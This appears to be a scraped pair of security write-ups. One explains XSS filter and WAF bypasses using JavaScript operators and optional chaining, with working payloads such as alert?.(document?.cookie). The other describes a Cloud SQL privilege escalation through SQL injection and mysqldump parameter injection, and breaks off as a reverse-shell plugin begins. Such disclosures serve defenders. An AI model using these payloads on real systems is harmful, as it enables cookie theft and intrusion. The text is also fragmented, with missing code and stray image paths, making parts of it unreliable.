XSS: Arithmetic Operators & Optional Chaining To Bypass Filters & Sanitization

Original text by Menin_TheMiddle

Using JavaScript Arithmetic Operators and Optional Chaining to bypass input validation, sanitization and HTML Entity Encoding when injection occurs in the JavaScript context. To know how to exploit an injection that could lead to an XSS vulnerability, it’s important to understand in which context the injected payload must work.

In the HTML context, the injected payload it’s different than what can be used in the JavaScript context.

Talking about JavaScript context, often developers use encoding functions as a quick and dirty way to sanitize untrusted user input (for example, converting «special» characters to HTML entities). It may appear a good injection killer to convert characters such as a single quote, double quotes, semicolon, etc… to their respective HTML entity codes, but in the JavaScript context it isn’t always a good way to prevent stored or reflected XSS. Quoting the OWASP Cross Site Scripting Prevention Cheat Sheet:

HTML entity encoding is okay for untrusted data that you put in the body of the HTML document, such as inside a

 tag. It even sort of worksfor untrusted data that goes into attributes, particularly if you’re religious about using quotes around your attributes. But HTML entity encoding doesn’t work if you’re putting untrusted data inside a
 tag anywhere, or an event handler attribute like onmouseover, or inside CSS, or in a URL. So even if you use an HTML entity encoding method everywhere, you are still most likely vulnerable to XSS. You MUST use the encode syntax for the part of the HTML document you’re putting untrusted data into. That’s what the rules below are all about.

Vulnerable Application

During a test on a customer’s web application, I found something very closed to the following code (it’s more simplified than the original):

Here the developer used the PHP

 function to sanitize the user input on
 converting special characters to HTML entities and using
 flag to convert both single and double quotes (as you can see in the table below):


 function removes all semicolon characters from the string. The sanitized input is then used inside a JavaScript function to do something.

You can find something similar in an awesome Labs by PortSwigger:



If you want to run my vulnerable web application example, just copy and paste the command below and point your browser to http://localhost:9000 you should find it useful in order to test all the example payloads in this article.curl -s 'https://gist.githubusercontent.com/theMiddleBlue/a098f37fbc08b47b2f2ddad8d1579b21/raw/103a1ccb2e46e22a35cc982a49a41b7d0/index.php' > index.php; php -S


As you can guess, in my example the

 arg is vulnerable to reflected XSS in JavaScript context. Without sanitization and validation of what a user put in the
 arg, it would be possible to exploit a reflected XSS with a simple injection like
. There’re two important things in this specific scenario:

  1. Due to the sanitization function, it isn’t possible to «close» the JavaScript function
     and start a new function using the semicolon character (by injecting something like
     the semicolon character will be removed before printing it on the response body).
  2. Due to its context, the injected payload (even encoded by
    ) is decoded by the user’s browser when clicking on the link. This means that the browser will decode the encoded single quote character.

Exploit using Arithmetic OperatorsIt is possible to exploit the XSS vulnerability in this specific JavaScript context without using any semicolon character by using JavaScript Arithmetic Operators, Bitwise Operators, Logical AND/OR Operators, etc… Consider the following example:

the first

 function prints 1337, the difference between 1338 and 1. The second onereturns NaN (Not a Number). As you can see in the screenshot, before returning NaN JavaScript executes
 first and then performs the subtraction operation. We can use this condition to exploit the XSS vulnerability in our example to avoid using a semicolon.

The payload could be the following:

As you can see, the

 function went executed before the subtraction, and this means that we can execute any JavaScript function without using the sanitized semicolon character.

How many operators can be used to exploit XSS here?

Subtraction is not the only operator that you can use in this kind of exploit. Below you can find an incomplete list ofoperators with a working payload (when applicable) and an example that you can test in your JavaScript console by copy&paste it:

Addition (+)foo’)%2balert(‘aconsole.log(‘a’+alert(1))
Bitwise AND (&)N/Aconsole.log(‘a’&alert(1))
Bitwise OR (|)foo’)|alert(‘aconsole.log(‘a’|alert(1))
Bitwise XOR (^)foo’)^alert(‘aconsole.log(‘a’^alert(1))
Comma operator (,)foo’),alert(‘aconsole.log(‘a’,alert(1))
Conditional (ternary) operatorfoo’)%3falert(‘a’):alert(‘bconsole.log(‘a’?alert(1):»)
Division (/)foo’)/alert(‘aconsole.log(‘a’/alert(1))
Equality (==)foo’)==alert(‘aconsole.log(‘a’==alert(1))
Exponentiation (**)foo’)**alert(‘aconsole.log(‘a’**alert(1))
Greater/Less than (>/<)N/Aconsole.log(‘a’>alert(1))
Greater/Less than or equal (>=|<=)N/Aconsole.log(‘a’>=alert(1))
Inequality (!=)foo’)!=alert(‘aconsole.log(‘a’!=alert(1))
Left/Right shift (>>|<<)N/Aconsole.log(‘a'<<alert(1))
Logical AND (&&)N/Aconsole.log(‘a’&&alert(1))
Logical OR (||)foo’)||alert(‘aconsole.log(false||alert(1))
Multiplication (*)foo’)*alert(‘aconsole.log(‘a’*alert(1))
Remainder (%)foo’)%alert(‘console.log(‘a’%alert(1))
Subtraction (-)foo’)-alert(‘console.log(‘a’-alert(1))
In Operatorfoo’) in alert(‘console.log(‘a’ in alert(1))

In the specific case of our customer’s web application, characters

 are encoded by
 so it prevents use of operators «Bitwise AND», «Greater/Less than» and «Greater/Less then or equal». All other operators can be used to leads user’s browser to execute JavaScript functions. For example:Exploit using Optional Chaining (?.)

Some Web Application Firewall Rule Set try to prevent XSS by validating untrusted user input against a list of JavaScript functions. Something like the following Regular Expression:


As you can see, the first two syntaxes would be blocked by the WAF, but the last two don’t match the regex. Indeed a really basic technique to bypass a weak rule is to insert white spaces or comment between the function name and the first round-bracket. If you use ModSecurity of course you know that is easy to fix this kind of bypass by using the transformation functions

 (removes all whitespace characters from input) and
 (removes common comments chars such as: /*, */, —, #) as the following example:

SecRule ARGS "@rx /(alert|eval|string|decodeURI|...)[(]/" \

Anyway it’s possible to bypass this specific rule by using the optional chaining operator:

The optional chaining operator (

) permits reading the value of a property located deep within a chain of connected objects without having to expressly validate that each reference in the chain is valid. The
 operator functions similarly to the
 chaining operator, except that instead of causing an error if a reference is nullish (
), the expression short-circuits with a return value of
. When used with function calls, it returns
 if the given function does not exist.

Usingthis operator we can bypass the ModSecurity rule shown before, and the payload becomes something like this:

If you want to try it, open your browser JavaScript console and paste the following:


Used as payload on our vulnerable web application, we can exploit the XSS bypassing both HTML entities encoding and Web Application Firewall rule:

Moreover, this operator should be used to bypass other «bad word» based WAF rules such as document.cookie with document?.cookie. Following a list of examples that you can use and you can test on your browser console:alert ?. (document ?. cookie)

self?.[‘al’+’ert’/* foo bar */]?.(‘XSS’)

true in alert /* foo */ ?. /* bar */ (/XSS/)

1 * alert ?. (/* foo */’XSS’/* bar */)

true, alert ?. (…[/XSS/])

true in self ?. [/alert/.source](/XSS/)

self ?. [/alert/ ?. source ?. toString()](/XSS/)Never ever HTML entity encode untrusted data to sanitize user input and don’t make your own WAF rule to validate it. Use a security encoding library for your app and use the OWASP CRS as a Web Application Firewall Rule Set.


How to contact Google SRE: Dropping a shell in cloud SQL

Original text by WTM@OFFENSI.COM

About Cloud SQLGoogle Cloud SQL is a fully managed relational database service. Customers can deploy a SQL, PostgreSQL or MySQL server which is secured, monitored and updated by Google. More demanding users can easily scale, replicate or configure high-availability. By doing so users can focus on workingwith the database, instead of dealing with all the previously mentioned complex tasks. Cloud SQL databases are accessible by using the applicable command line utilities or from any application hosted around the world. This write-up covers vulnerabilities that we have discovered in the MySQL versions 5.6 and 5.7 of Cloud SQL.

Limitations of a managed MySQL instance

Because Cloud SQL is a fully managed service, users don’t have access to certain features. In particular, the SUPER and FILE privilege. In MySQL, the SUPER privilege is reserved for system administration related tasks and the FILE privilege for reading/writing to and from files on the server running the MySQL daemon. Any attacker who can get a hold ofthese privileges can easily compromise the server.

Furthermore, mysqld port 3306 is not reachable from the public internet by default due to firewalling. When a user connects to MySQL using the gcloud client (‘gcloud sql connect <instance>’), the user’s ip address is temporarily added to the whitelist of hosts that are allowed to connect.

Users do get access to the ‘root’@’%’ account. In MySQL users are defined by a username AND hostname. In this case the user ‘root’ can connect from any host (‘%’).

Elevating privileges

Bug 1. Obtaining FILE privileges through SQL injection

When looking at the web-interface of the MySQL instance in the Google Cloud console, we notice several features are presented to us. We can create a new database, new users and we can import and export databases from and to storage buckets. While looking at the export feature, we noticed we can enter a custom query when doing an export to a CSV file.

Because we want to know how Cloud SQL is doing the CSV export, we intentionally enter the incorrect query “SELECT * FROM evil AND A TYPO HERE”. This query results in the following error:

Error 1064: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'AND A TYPO HERE INTO OUTFILE '/mysql/tmp/savedata-1589274544663130747.csv' CHARA' at line 1

The error clearly shows that the user that is connecting to MySQL to do the export has FILE privileges. It attempts to select data to temporarily store it into the ‘/mysql/tmp’ directory before exporting it to a storage bucket. When we run ‘SHOW VARIABLES’ from our MySQL client we notice that ‘/mysql/tmp’ isthe secure_file_priv directory, meaning that ‘/mysql/tmp’ is the onlypath where a user with FILE privileges is allowed to store files.

By adding the MySQL comment character (#) to the query we can perform SQL injection with FILE privileges:

SELECT * FROM ourdatabase INTO ‘/mysql/tmp/evilfile’ #

An attacker could now craft a malicious database and select the contents of a table but can only write the output to a file under ‘/mysql/tmp’. This does not sound very promising so far.

Bug 2. Parameter injection in mysqldump

When doing a regular export of a database we notice that the end result is a .sql file which is dumped by the ‘mysqldump’ tool. This can easily be confirmed when you open an exported database from a storage bucket, the first lines of the dump reveal the command and version:

-- MySQL dump 10.13  Distrib 5.7.25, for Linux (x86_64)-- Host: localhost    Database: mysql
-- ---
-- Server version   5.7.25-google-log<!-- wp:html -->
-- MySQL dump 10.13  Distrib 5.7.25, for Linux (x86_64)

Now we know that when we run the export tool, the Cloud SQL API somehow invokes mysqldump and stores the database before moving it to a storage bucket.

When we intercept the API call that is responsible for the export with Burp we see that the database (‘mysql’ in this case) is passed as a parameter:

An attempt to modify the database name in the API call from ‘mysql’ into ‘–help’ results into something that surprised us. The mysqldump help is dumped into a .sql file in a storage bucket.

mysqldump  Ver 10.13 Distrib 5.7.25, for Linux (x86_64)
Copyright (c) 2000, 2020, Oracle and/or its affiliates. All rights reserved.

Dumping structure and contents of MySQL databases and tables.
Usage: mysqldump [OPTIONS] database[tables]
OR     mysqldump [OPTIONS] --databases [OPTIONS] DB1 [DB2 DB3...]
OR     mysqldump [OPTIONS] --all-databases [OPTIONS]

--print-defaults        Print the program argument list and exit.
--no-defaults           Don't read default options from any option file,
                        except for login file.
--defaults-file=#       Only read default options from the given file #.

Testing for command injection resulted into failure however. It seems like mysqldump is passed as the first argument to execve(), rendering a command injection attack impossible.

We now can however pass arbitrary parameters to mysqldump as the ‘–help’ command illustrates.

Crafting a malicious database

Among a lot of, in this case, useless parameters mysqldump has to offer, two of them appear to be standing out from the rest, namely the ‘–plugin-dir’ and the ‘–default-auth’ parameter.

The –plugin-dir parameter allows us to pass the directory where client side plugins are stored. The –default-auth parameter specifies which authentication plugin we want to use. Remember that we could write to ‘/mysql/tmp’? What if we write a malicious plugin to ‘/mysql/tmp’ and load it with the aforementioned mysqldump parameters? We must however prepare the attack locally. We need a malicious database that we can import into Cloud SQL, before we can export any useful content into ‘/mysql/tmp’. We prepare this locally on a MySQL server running on our desktop computers.

First we write a malicious shared object which spawns a reverse shell to a specified IP address. We overwrite the _init function:

#include <sys/types.h>
#include <unistd.h>
#include <stdio.h>
